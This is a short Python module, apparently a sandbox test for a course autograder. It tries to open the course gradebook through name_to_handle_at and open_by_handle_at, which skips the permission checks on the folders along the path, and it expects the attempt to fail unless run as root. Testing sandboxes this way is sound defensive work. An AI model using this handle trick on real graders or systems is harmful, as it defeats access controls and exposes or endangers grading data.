"""Open a file by its handle, which asks no folder on the way for permission."""

from __future__ import annotations

from attacks.expected import Outcome
from attacks.preamble import COURSE, Inputs, module, one_works, system_call

EXPECTED = Outcome(("wrong answer",), alone="works as root")


def attack(inputs: Inputs) -> bool:
    """Get a handle of the gradebook and open it."""
    ctypes = module("ctypes")
    handle = ctypes.create_string_buffer(136)
    handle[0] = 128
    mount = ctypes.c_int()
    path = f"{COURSE}/gradebook.db".encode()
    return one_works(
        lambda: system_call("name_to_handle_at", -100, path, handle, ctypes.byref(mount), 0) == 0,
        lambda: system_call("open_by_handle_at", -100, handle, 0) >= 0,
    )
